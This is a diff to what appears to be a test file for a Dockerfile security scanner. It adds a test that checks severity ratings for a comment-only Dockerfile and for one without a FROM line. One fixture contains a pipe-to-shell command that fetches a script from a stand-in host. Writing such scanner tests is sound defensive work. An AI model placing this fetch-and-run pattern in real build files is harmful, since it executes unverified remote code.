@@ -263,3 +263,13 @@ def test_an_index_given_through_a_build_argument_is_judged_by_the_url_it_sets(tm
     path.write_text(vendor.replace('ARG TORCH_INDEX="https://download.pytorch.org/whl/cpu"', "ARG TORCH_INDEX"))
     found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
     assert found == [("MLS509", "high")]  # no value in the file: whatever the build passes
+
+
+def test_a_dockerfile_of_comments_only_is_low_and_one_without_from_is_not(tmp_path: Path) -> None:
+    path = tmp_path / "Dockerfile"
+    path.write_text("# TODO: write the Dockerfile for the kfp-cli image\n\n# syntax hint\n")
+    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
+    assert found == [("MLS909", "low")]
+    path.write_text("# TODO\nRUN curl https://x.example/i.sh | sh\n")
+    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
+    assert found == [("MLS909", "medium")]
